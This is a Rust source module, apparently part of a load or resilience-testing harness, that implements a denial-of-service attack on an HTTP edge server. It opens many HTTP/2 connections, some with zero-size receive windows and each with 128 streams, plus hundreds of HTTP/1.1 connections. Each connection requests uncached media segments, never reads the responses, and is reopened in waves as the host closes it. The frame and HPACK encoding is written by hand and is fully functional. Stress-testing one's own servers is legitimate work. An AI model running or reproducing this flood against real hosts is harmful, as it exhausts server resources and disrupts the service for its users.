//! Connections that ask and do not read: HTTP/2, as many streams as the host allows on each, and
//! HTTP/1.1. They come in waves: those that were closed are opened again.
//!
//! What they send is written by hand, for a client that must read nothing needs no library.

use std::io::{ErrorKind, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};

/// Of HTTP/2. Half of them let everything come and leave it in their sockets; the other half lets
/// no byte of a body come.
const CONNECTIONS: u32 = 4;
/// The host's default.
const STREAMS: u32 = 128;
/// Of HTTP/1.1, with one request each.
const PLAIN: u32 = 256;
const WINDOW_MAX: u32 = (1 << 31) - 1;
/// Between two waves.
const PAUSE: Duration = Duration::from_secs(5);
/// Between two looks at whether all is over.
const LOOK: Duration = Duration::from_millis(100);
/// A host that does not take requests is no attack's end.
const WRITE_WITHIN: Duration = Duration::from_secs(1);

/// Types of frames, flags and settings (RFC 9113).
const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const END_STREAM_AND_HEADERS: u8 = 0x5;
const INITIAL_WINDOW_SIZE: u16 = 4;

/// Names of objects that are all different.
pub(super) struct Objects {
    folder: String,
    next: AtomicU32,
}

impl Objects {
    pub(super) fn new(folder: &str) -> Self {
        Self { folder: folder.to_owned(), next: AtomicU32::new(1_000_000) }
    }

    /// The URL of one that nobody has asked for.
    pub(super) fn next(&self) -> String {
        format!("{}/{}.m4s", self.folder, self.next.fetch_add(1, Ordering::Relaxed))
    }
}

#[derive(Clone, Copy)]
enum Protocol {
    Http1,
    /// With the bytes of each body that may be sent.
    Http2 {
        window: u32,
    },
}

/// A connection, where it is open.
struct Reader {
    protocol: Protocol,
    stream: Option<TcpStream>,
}

pub(super) struct Attack<'a> {
    address: &'a str,
    objects: &'a Objects,
    /// Objects so far.
    asked: u32,
}

impl<'a> Attack<'a> {
    /// Goes on until it is over; how many objects were asked for.
    pub(super) fn run(edge: &'a str, objects: &'a Objects, over: &AtomicBool) -> Result<u32> {
        let address = edge.trim_start_matches("http://");
        let mut attack = Self { address, objects, asked: 0 };
        let http2 = (0..CONNECTIONS).map(|number| {
            let window = if number % 2 == 0 { WINDOW_MAX } else { 0 };
            Protocol::Http2 { window }
        });
        let protocols = http2.chain((0..PLAIN).map(|_| Protocol::Http1));
        let mut readers: Vec<_> =
            protocols.map(|protocol| Reader { protocol, stream: None }).collect();
        while !over.load(Ordering::Relaxed) {
            for reader in &mut readers {
                if !reader.is_open() {
                    // Between a connection and its requests the host may close it.
                    reader.stream = attack.ask(reader.protocol).ok();
                }
            }
            let wave = Instant::now();
            while wave.elapsed() < PAUSE && !over.load(Ordering::Relaxed) {
                std::thread::sleep(LOOK);
            }
        }
        Ok(attack.asked)
    }

    /// A new connection, with its requests.
    fn ask(&mut self, protocol: Protocol) -> Result<TcpStream> {
        let mut stream = TcpStream::connect(self.address)?;
        stream.set_write_timeout(Some(WRITE_WITHIN))?;
        match protocol {
            Protocol::Http1 => {
                let path = self.path()?;
                let head = format!("GET {path} HTTP/1.1\r\nhost: {}\r\n\r\n", self.address);
                stream.write_all(head.as_bytes())?;
                self.asked += 1;
            }
            Protocol::Http2 { window } => {
                stream.write_all(&greeting(window))?;
                for number in 0..STREAMS {
                    let head = head(&self.path()?, self.address);
                    let frame = frame(HEADERS, END_STREAM_AND_HEADERS, 2 * number + 1, &head);
                    stream.write_all(&frame)?;
                    self.asked += 1;
                }
            }
        }
        Ok(stream)
    }

    fn path(&self) -> Result<String> {
        let url = self.objects.next();
        let path = url.split_once(self.address).map(|(_, path)| path.to_owned());
        path.with_context(|| format!("{url} is not at {}", self.address))
    }
}

impl Reader {
    /// Who reads nothing learns of a close by writing: that it lives, or the empty line that
    /// HTTP/1.1 ignores.
    fn is_open(&mut self) -> bool {
        let Some(stream) = &mut self.stream else { return false };
        let sign = match self.protocol {
            Protocol::Http1 => b"\r\n".to_vec(),
            Protocol::Http2 { .. } => frame(PING, 0, 0, &[0; 8]),
        };
        match stream.write_all(&sign) {
            Ok(()) => true,
            Err(error) => matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut),
        }
    }
}

/// What a client begins with: it lets so many bytes of each body come, and of all bodies together
/// as many as can be said.
fn greeting(window: u32) -> Vec<u8> {
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window.to_be_bytes()].concat();
    // All connections begin with 65,535.
    let more = (WINDOW_MAX - 65_535).to_be_bytes();
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
        frame(SETTINGS, 0, 0, &setting),
        frame(WINDOW_UPDATE, 0, 0, &more),
    ]
    .concat()
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A GET in the words of HPACK (RFC 7541): two fields of its table, and two literals with a name of
/// its table.
fn head(path: &str, authority: &str) -> Vec<u8> {
    const METHOD_GET: u8 = 0x82;
    const SCHEME_HTTP: u8 = 0x86;
    const PATH: u8 = 0x04;
    const AUTHORITY: u8 = 0x01;
    let mut head = vec![METHOD_GET, SCHEME_HTTP];
    for (name, value) in [(PATH, path), (AUTHORITY, authority)] {
        head.push(name);
        head.extend(length(value.len()));
        head.extend(value.as_bytes());
    }
    head
}

/// An integer with a prefix of seven bits.
fn length(length: usize) -> Vec<u8> {
    const PREFIX: usize = 0x7f;
    let Some(mut rest) = length.checked_sub(PREFIX) else { return vec![length as u8] };
    let mut bytes = vec![PREFIX as u8];
    while rest >= 0x80 {
        bytes.push((rest % 0x80) as u8 | 0x80);
        rest /= 0x80;
    }
    bytes.push(rest as u8);
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_are_those_of_rfc_7541() {
        assert_eq!(length(10), [10]);
        assert_eq!(length(126), [126]);
        assert_eq!(length(127), [127, 0]);
        assert_eq!(length(1337), [127, 0xba, 9]);
    }

    #[test]
    fn a_frame_says_its_length_and_stream() {
        assert_eq!(frame(PING, 0, 7, &[9; 2]), [0, 0, 2, 6, 0, 0, 0, 0, 7, 9, 9]);
    }
}
